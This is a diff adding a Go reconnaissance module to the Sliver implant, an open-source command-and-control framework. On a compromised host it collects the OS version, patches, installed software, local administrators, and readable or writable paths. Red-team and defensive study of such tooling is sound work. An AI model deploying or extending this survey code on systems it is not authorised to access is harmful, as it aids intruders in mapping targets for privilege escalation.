@@ -0,0 +1,122 @@
+package survey
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"os"
+	"path/filepath"
+	"runtime"
+	"sort"
+	"time"
+
+	"github.com/bishopfox/sliver/implant/sliver/snapshot"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+// candidatePath - A path, or glob, worth reporting if it exists
+type candidatePath struct {
+	Path        string
+	Description string
+}
+
+// Run - Survey the host, every part is best effort: a part that fails is
+// recorded in the survey's errors and the rest of the survey continues
+func Run(activeC2 string) *sliverpb.Survey {
+	survey := &sliverpb.Survey{
+		Arch:        runtime.GOARCH,
+		Environment: snapshot.Take(activeC2),
+		Errors:      []string{},
+		Timestamp:   time.Now().Unix(),
+	}
+	var err error
+	survey.OS, survey.Kernel, err = osVersion()
+	if err != nil {
+		survey.Errors = append(survey.Errors, "os version: "+err.Error())
+	}
+	survey.Patches, err = patches()
+	if err != nil {
+		survey.Errors = append(survey.Errors, "patches: "+err.Error())
+	}
+	survey.Software, err = software()
+	if err != nil {
+		survey.Errors = append(survey.Errors, "software: "+err.Error())
+	}
+	sort.Slice(survey.Software, func(i, j int) bool {
+		return survey.Software[i].Name < survey.Software[j].Name
+	})
+	survey.LocalAdmins, err = localAdmins()
+	if err != nil {
+		survey.Errors = append(survey.Errors, "local admins: "+err.Error())
+	}
+	survey.Paths = interestingPaths(candidatePaths)
+
+	// {{if .Config.Debug}}
+	log.Printf("[survey] %s (%s), %d patch(es), %d package(s), %d admin(s), %d path(s), %d error(s)",
+		survey.OS, survey.Kernel, len(survey.Patches), len(survey.Software), len(survey.LocalAdmins),
+		len(survey.Paths), len(survey.Errors))
+	// {{end}}
+	return survey
+}
+
+// interestingPaths - The candidates that exist, environment variables in the
+// paths are expanded and globs are matched
+func interestingPaths(candidates []candidatePath) []*sliverpb.SurveyPath {
+	paths := []*sliverpb.SurveyPath{}
+	seen := map[string]bool{}
+	for _, candidate := range candidates {
+		matches, err := filepath.Glob(os.ExpandEnv(candidate.Path))
+		if err != nil {
+			continue
+		}
+		for _, match := range matches {
+			if seen[match] {
+				continue
+			}
+			seen[match] = true
+			readable, writable := access(match)
+			paths = append(paths, &sliverpb.SurveyPath{
+				Path:        match,
+				Description: candidate.Description,
+				Readable:    readable,
+				Writable:    writable,
+			})
+		}
+	}
+	return paths
+}
+
+// dedupeSoftware - Drop packages listed more than once with the same version,
+// e.g. in both the 32-bit and 64-bit uninstall keys
+func dedupeSoftware(packages []*sliverpb.SurveySoftware) []*sliverpb.SurveySoftware {
+	unique := []*sliverpb.SurveySoftware{}
+	seen := map[string]bool{}
+	for _, pkg := range packages {
+		key := pkg.Name + "\x00" + pkg.Version
+		if pkg.Name == "" || seen[key] {
+			continue
+		}
+		seen[key] = true
+		unique = append(unique, pkg)
+	}
+	return unique
+}